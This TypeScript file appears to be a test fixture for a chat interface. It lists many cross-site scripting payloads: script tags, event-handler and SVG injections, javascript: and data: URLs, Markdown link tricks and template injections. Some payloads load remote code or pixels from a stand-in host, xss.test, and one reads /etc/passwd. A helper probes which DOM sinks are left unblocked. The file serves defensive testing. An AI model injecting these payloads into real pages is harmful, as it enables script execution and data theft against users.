/** What has broken chats elsewhere, and its many spellings: markup, addresses, Markdown, templates, broken encodings. Each would call `alert` or ask for xss.test. */
const scripts = [
  '<script>alert(1)</script>',
  '<ScRiPt>alert(1)</sCrIpT>',
  '<script src=//xss.test/x.js></script>',
  '</script><script>alert(1)</script>',
  '<<script>alert(1)//<</script>',
  '<script\n>alert(1)</script\n>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '%3Cscript%3Ealert(1)%3C/script%3E',
  '<script type="module">import("//xss.test/m.js")</script>',
  '＜script＞alert(1)＜/script＞',
];

const tags = ['img src=x', 'svg', 'body', 'video src=x', 'audio src=x', 'input autofocus', 'details open', 'marquee'];
const events = ['onerror', 'onload', 'onfocus', 'ontoggle', 'onstart', 'onmouseover', 'onanimationstart'];
const handlers = [
  ...tags.map((tag) => `<${tag} onerror=alert(1) onload=alert(1) onfocus=alert(1) ontoggle=alert(1)>`),
  ...events.map((event) => `"><img src=x ${event}="alert(1)">`),
  ...events.map((event) => `' ${event}='alert(1)' x='`),
];

const elements = [
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="//xss.test/x.swf">',
  '<link rel="stylesheet" href="//xss.test/x.css">',
  '<style>@import "//xss.test/x.css";*{background:url(//xss.test/x)}</style>',
  '<meta http-equiv="refresh" content="0;url=//xss.test/">',
  '<base href="//xss.test/">',
  '<form action="//xss.test/"><button>ok</button></form>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template shadowrootmode=open><script>alert(1)</script></template>',
  '<a href="javascript:alert(1)">x</a>',
  '<img src="//xss.test/pixel.png">',
  '<div style="background:url(//xss.test/x)">x</div>',
  '<dialog open oncancel=alert(1)>x</dialog>',
];

const addresses = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  'java\tscript:alert(1)',
  'java\nscript:alert(1)',
  ' javascript:alert(1)',
  '\u0001javascript:alert(1)',
  'javascript://xss.test/%0aalert(1)',
  'data:text/html,<script>alert(1)</script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'vbscript:msgbox(1)',
  'blob:https://xss.test/1',
  'file:///etc/passwd',
  '\\\\xss.test\\x',
  'https:javascript:alert(1)',
];

const markdown = [
  '[click](javascript:alert(1))',
  '[click](  JAVASCRIPT:alert(1)  )',
  '![x](javascript:alert(1))',
  '![x](//xss.test/pixel.png "t")',
  '[x]: javascript:alert(1)\n[x]',
  '<javascript:alert(1)>',
  '[a](https://shop.example" onclick="alert(1))',
  '**<img src=x onerror=alert(1)>**',
  '`<img src=x onerror=alert(1)>`',
  '| <img src=x onerror=alert(1)> |\n| --- |',
];

const others = [
  '{{constructor.constructor("alert(1)")()}}',
  '${alert(1)}',
  '<%= alert(1) %>',
  '#{alert(1)}',
  '"}];alert(1);//',
  '\u202e<script>alert(1)</script>',
  '\ud800<img src=x onerror=alert(1)>',
  '<!--><img src=x onerror=alert(1)>-->',
  ']]><img src=x onerror=alert(1)>',
  '{"agent_response_text":"<img src=x onerror=alert(1)>","product_cards":[]}',
];

export const xssPayloads = [...scripts, ...handlers, ...elements, ...addresses, ...markdown, ...others].map((text) =>
  text.toWellFormed(),
);

/** Ways from a text to markup or a script that the page's browser does not block; page.evaluate runs it there. */
export function openSinks(): string[] {
  const text = '<b>x</b>';
  const script = document.createElement('script');
  const sinks: Record<string, () => unknown> = {
    innerHTML: () => (document.createElement('p').innerHTML = text),
    insertAdjacentHTML: () => document.createElement('p').insertAdjacentHTML('beforeend', text),
    'document.write': () => document.write(text),
    srcdoc: () => (document.createElement('iframe').srcdoc = text),
    DOMParser: () => new DOMParser().parseFromString(text, 'text/html'),
    fragment: () => document.createRange().createContextualFragment(text),
    'script.src': () => (script.src = 'https://xss.test/x.js'),
    'script.text': () => (script.text = 'self.xss = 1'),
    Worker: () => new Worker('/assets/x.js'),
    policy: () => Reflect.get(self, 'trustedTypes').createPolicy('x', { createHTML: String }),
  };
  return Object.entries(sinks).flatMap(([name, use]) => {
    try {
      use();
      return name;
    } catch {
      return [];
    }
  });
}
